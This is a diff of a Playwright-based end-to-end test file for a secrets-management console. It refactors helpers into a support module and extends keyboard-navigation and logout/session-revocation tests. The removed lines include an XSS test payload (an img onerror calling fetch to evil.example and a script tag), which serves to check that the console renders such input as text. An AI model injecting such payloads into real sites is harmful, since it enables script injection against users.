@@ -1,12 +1,12 @@
 /** The console in real browsers, two at once, with a real service waiting: what one admin does the other sees, and what passes by HTTP holds no value. */
 import { randomBytes } from 'node:crypto';
 import test, { type ExecutionContext } from 'ava';
-import type { Locator } from 'playwright-core';
 import type { Client } from '../client/client.ts';
 import { newTokenIdentity, type ServiceIdentity } from '../client/credential.ts';
 import { createSecretsClient } from '../client/mod.ts';
 import { builtConsole } from './support/built-console.ts';
 import { launchChromium } from './support/chromium/launch.ts';
+import { button, card, confirmed, cookieOf, dialog, follow, gone, goTo, hasFocus, HOSTILE, isSignedOut, openSecret, takesFocus, titled, worth } from './support/console-pages.ts';
 import { startJetlock } from './support/jetlock.ts';
 import { latch } from './support/latch.ts';
 import { flaws } from './support/looks.ts';
@@ -42,28 +42,7 @@ const valueOf = (n: number): string => `"ü" \\ + / & <b>${CANARY}</b> ${n}`;
 const STRIPE = 'prod/shop/STRIPE_KEY';
 const SECRETS = [CANARY, token, Buffer.from(token.slice(4), 'base64url')];
 
-const card = ({ page }: Person, title: string | RegExp): Locator => page.getByRole('article', { name: title });
-const button = (inside: Pick<Locator, 'getByRole'>, name: string): Locator => inside.getByRole('button', { name, exact: true });
-const dialog = ({ page }: Person, name: string): Locator => page.getByRole('dialog', { name });
-const gone = (what: Locator): Promise<void> => what.waitFor({ state: 'detached' });
 const all = (work: (person: Person) => Promise<unknown>): Promise<unknown> => Promise.all([alice, bob].map(work));
-const titled = ({ page }: Person, title: string): Promise<true> => eventually(async () => ((await page.title()) === title ? true : undefined), LIMIT_MS, `the title ${title}`);
-/** By a click in the frame of every page: nothing is loaded anew. */
-const goTo = async ({ page }: Person, name: string): Promise<void> => {
-  await page.getByRole('navigation', { name: 'Pages' }).getByRole('link', { name }).click();
-  await page.getByRole('heading', { level: 1, name }).waitFor();
-};
-const openSecret = async (person: Person): Promise<void> => {
-  await goTo(person, 'Secrets');
-  await person.page.getByRole('link', { name: PATH }).click();
-  await person.page.getByRole('heading', { level: 1, name: PATH }).waitFor();
-};
-const confirmed = async (person: Person, opens: Locator, title: string, action: string): Promise<void> => {
-  await opens.click();
-  await button(dialog(person, title), action).click();
-  await gone(dialog(person, title));
-};
-const hasFocus = (what: Locator): Promise<boolean> => what.evaluate((element) => (element as unknown as { readonly matches: (selector: string) => boolean }).matches(':focus'));
 const looks = async (t: ExecutionContext, { page }: Person, name: string): Promise<void> => void t.deepEqual(await flaws(page, name), []);
 const withClient = async <A>(name: string, work: (client: Client) => Promise<A>, own?: ServiceIdentity): Promise<A> => {
   const client = await jetlock.clientOf(name, own);
@@ -108,7 +87,7 @@ test.serial('a service that waits for a missing secret has it as soon as it is p
 test.serial('what is rotated in a browser arrives in the program, and the other browser sees it', async (t) => {
   const changed = latch<string>(LIMIT_MS, 'the new value');
   const end = secrets.onChange('DB_PASSWORD', (value) => changed.open(value));
-  await all(openSecret);
+  await all((person) => openSecret(person, PATH));
   await button(alice.page, 'New version').click();
   const asking = dialog(alice, `New version of ${PATH}`);
   await asking.getByLabel('Value', { exact: true }).fill(valueOf(2));
@@ -152,17 +131,20 @@ test.serial('the audit log shows it all, and goes on by itself', async (t) => {
 
 test.serial('by the keyboard alone: from anywhere to the inbox, along the cards, and approved', async (t) => {
   const { keyboard } = alice.page;
-  await keyboard.press('g');
-  await keyboard.press('i');
+  for (const key of ['g', 'i']) await keyboard.press(key);
   const newcomer = card(alice, 'newcomer asks to be let in');
   await newcomer.waitFor();
   for (let n = await alice.page.getByRole('article').count(); n > 0 && !(await hasFocus(newcomer)); n -= 1) await keyboard.press('j');
   t.true(await hasFocus(newcomer));
+  await keyboard.press('d');
+  await takesFocus(button(dialog(alice, 'Deny: newcomer asks to be let in'), 'Deny'), 'what the key asked for');
+  await keyboard.press('Escape');
+  await takesFocus(newcomer, 'the card, again,');
   await keyboard.press('a');
   await gone(newcomer);
   await keyboard.press('/');
   const search = alice.page.getByRole('searchbox', { name: /^Search all paths/ });
-  await eventually(async () => ((await hasFocus(search)) ? true : undefined), LIMIT_MS, 'the search to have the focus');
+  await takesFocus(search, 'the search');
   await keyboard.type('stripe');
   await eventually(async () => ((await alice.page.getByRole('table', { name: 'Secrets' }).getByRole('link').allInnerTexts()).join() === STRIPE ? true : undefined), LIMIT_MS, 'the search');
 });
@@ -172,20 +154,15 @@ test.serial('every page looks right, wide and narrow, light and dark, and can be
     await goTo(alice, name);
     await looks(t, alice, name.toLowerCase());
   }
-  await alice.page.getByRole('link', { name: 'alice' }).click();
-  await alice.page.getByRole('heading', { level: 1, name: 'Account' }).waitFor();
+  await follow(alice, 'alice', 'Account');
   await looks(t, alice, 'account');
   await goTo(alice, 'Secrets');
-  await alice.page.getByRole('link', { name: 'New secret' }).click();
-  await alice.page.getByRole('heading', { level: 1, name: 'New secret' }).waitFor();
+  await follow(alice, 'New secret', 'New secret');
   await looks(t, alice, 'new-secret');
   await goTo(alice, 'Services');
-  await alice.page.getByRole('link', { name: SERVICE }).click();
-  await alice.page.getByRole('heading', { level: 1, name: SERVICE }).waitFor();
+  await follow(alice, SERVICE, SERVICE);
   await looks(t, alice, 'service');
 });
-
-const HOSTILE = `<img src=x onerror="fetch('//evil.example/')"><script>document.title='owned'</script> ${'wide'.repeat(40)} ${'שלום '.repeat(10)}`;
 
 test.serial('two decide the same card at once: it is decided once, and the other is told so; what stands on it is text alone', async (t) => {
   await all((person) => goTo(person, 'Inbox'));
@@ -234,22 +211,31 @@ test.serial('while the service is restarted the console waits for it, and then h
   t.pass();
 });
 
-/** What a copy of the session's cookie is worth. */
-const statusOf = async (cookie: string): Promise<number> => (await fetch(`${proxy.url}/session`, { headers: { cookie } })).status;
-const cookieOf = async ({ context }: Person): Promise<string> => (await context.cookies()).map(({ name, value }) => `${name}=${value}`).join('; ');
-
 test.serial('who logs out is out, and whoever is logged out everywhere too', async (t) => {
   const elsewhere = await seat(browser, jetlock, jetlock.identity, proxy.url);
   const cookies = await Promise.all([alice, elsewhere, bob].map(cookieOf));
-  t.deepEqual(await Promise.all(cookies.map(statusOf)), [200, 200, 200]);
-  await alice.page.getByRole('link', { name: 'alice' }).click();
+  const counts = () => Promise.all(cookies.map((cookie) => worth(proxy.url, cookie)));
+  t.deepEqual(await counts(), [200, 200, 200]);
+  await follow(alice, 'alice', 'Account');
   await confirmed(alice, button(alice.page, 'Log out everywhere'), 'Log out everywhere', 'Log out everywhere');
-  await alice.page.getByRole('heading', { name: 'Sign in' }).waitFor();
-  t.deepEqual(await Promise.all(cookies.map(statusOf)), [401, 401, 200]);
-  await bob.page.getByRole('link', { name: 'bob' }).click();
+  await Promise.all([alice, elsewhere].map(isSignedOut));
+  t.deepEqual(await counts(), [401, 401, 200]);
+  await elsewhere.page.reload();
+  await looks(t, elsewhere, 'sign-in');
+  await button(elsewhere.page, 'Sign in as alice').click();
+  await goTo(elsewhere, 'Secrets');
+  await follow(bob, 'bob', 'Account');
   await button(bob.page, 'Log out').click();
-  await bob.page.getByRole('heading', { name: 'Sign in' }).waitFor();
-  t.deepEqual(await Promise.all(cookies.map(statusOf)), [401, 401, 401]);
+  await isSignedOut(bob);
+  t.deepEqual(await counts(), [401, 401, 401]);
+  // Without a key, and behind a link that nobody waits for any more.
+  await follow(elsewhere, 'alice', 'Account');
+  await confirmed(elsewhere, button(elsewhere.page, 'Forget this browser'), 'Forget this browser', 'Forget');
+  await elsewhere.page.getByRole('heading', { name: 'Enrol this browser' }).waitFor();
+  await looks(t, elsewhere, 'sign-in-unknown');
+  await elsewhere.page.goto(`${proxy.url}/console/enrol#${randomBytes(32).toString('base64url')}`);
+  await elsewhere.page.getByText('Its fingerprint').waitFor();
+  await looks(t, elsewhere, 'enrol');
 });
 
 test.serial('no value and no token has passed by HTTP in either direction, nothing left for another place, and no page had anything to complain about', async (t) => {
